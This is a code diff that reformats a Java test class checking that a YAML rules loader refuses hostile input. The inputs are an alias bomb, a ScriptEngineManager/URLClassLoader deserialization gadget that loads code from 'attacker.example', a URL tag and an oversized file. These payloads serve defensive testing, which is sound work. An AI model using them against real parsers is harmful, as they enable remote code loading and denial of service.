@@ -42,36 +42,48 @@ class HostileInputTest {
 
   @Test
   void refusesAnAliasBomb() {
-    StringBuilder yaml = new StringBuilder("version: 1\na: &a [\"lol\",\"lol\",\"lol\",\"lol\","
-        + "\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
+    StringBuilder yaml =
+        new StringBuilder(
+            "version: 1\na: &a [\"lol\",\"lol\",\"lol\",\"lol\","
+                + "\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
     for (char c = 'b'; c <= 'i'; c++) {
       String prev = "*" + (char) (c - 1);
-      yaml.append(c).append(": &").append(c).append(" [")
-          .append(String.join(",", Collections.nCopies(9, prev))).append("]\n");
+      yaml.append(c)
+          .append(": &")
+          .append(c)
+          .append(" [")
+          .append(String.join(",", Collections.nCopies(9, prev)))
+          .append("]\n");
     }
 
     RuleError error = onlyError(() -> RulesLoader.parse("bomb.yaml", yaml.toString()));
 
     assertThat(error.line()).isEqualTo(8);
     assertThat(error.message())
-        .isEqualTo("more than 50 aliases to lists or mappings; the limit guards against alias bombs");
+        .isEqualTo(
+            "more than 50 aliases to lists or mappings; the limit guards against alias bombs");
   }
 
   @Test
   void refusesAScriptEngineTagWithoutCreatingAnything() {
-    String yaml = "version: 1\nresources:\n  - !!javax.script.ScriptEngineManager"
-        + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n";
+    String yaml =
+        "version: 1\nresources:\n  - !!javax.script.ScriptEngineManager"
+            + " [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]\n";
 
     RuleError error = onlyError(() -> RulesLoader.parse("evil.yaml", yaml));
 
-    assertThat(error.toString()).isEqualTo(
-        "evil.yaml:3:5: YAML tags are not allowed, found `!!javax.script.ScriptEngineManager`");
+    assertThat(error.toString())
+        .isEqualTo(
+            "evil.yaml:3:5: YAML tags are not allowed, found `!!javax.script.ScriptEngineManager`");
   }
 
   @Test
   void refusesAUrlTag() {
-    RuleError error = onlyError(
-        () -> RulesLoader.parse("url.yaml", "version: 1\nsettings: !!java.net.URL [\"http://x/\"]\n"));
+    RuleError error =
+        onlyError(
+            () ->
+                RulesLoader.parse(
+                    "url.yaml", "version: 1\nsettings: !!java.net.URL [\"http://x/\"]\n"));
 
     assertThat(error.line()).isEqualTo(2);
     assertThat(error.column()).isEqualTo(11);
@@ -80,8 +92,13 @@ class HostileInputTest {
 
   @Test
   void neverInitialisesTheClassATagNames() {
-    String yaml = "version: 1\nsettings:\n  mode: !!" + Canary.class.getName() + " [x]\n"
-        + "resources: !!" + Canary.class.getName() + " {}\n";
+    String yaml =
+        "version: 1\nsettings:\n  mode: !!"
+            + Canary.class.getName()
+            + " [x]\n"
+            + "resources: !!"
+            + Canary.class.getName()
+            + " {}\n";
 
     RuleError error = onlyError(() -> RulesLoader.parse("canary.yaml", yaml));
 
@@ -92,8 +109,9 @@ class HostileInputTest {
   @Test
   void refusesATwentyMegabyteFileWithoutReadingIt(@TempDir Path dir) throws IOException {
     Path big = dir.resolve("big.yaml");
-    byte[] line = "# padding padding padding padding padding padding padding padding\n"
-        .getBytes(StandardCharsets.UTF_8);
+    byte[] line =
+        "# padding padding padding padding padding padding padding padding\n"
+            .getBytes(StandardCharsets.UTF_8);
     try (OutputStream out = new BufferedOutputStream(Files.newOutputStream(big), 1 << 16)) {
       out.write("version: 1\n".getBytes(StandardCharsets.UTF_8));
       long written = 11;
@@ -105,7 +123,8 @@ class HostileInputTest {
 
     RuleError error = onlyError(() -> RulesLoader.load(big));
 
-    assertThat(error.toString()).isEqualTo(big + ":1:1: rules file is 20.0 MiB; the limit is 1 MiB");
+    assertThat(error.toString())
+        .isEqualTo(big + ":1:1: rules file is 20.0 MiB; the limit is 1 MiB");
   }
 
   @Test
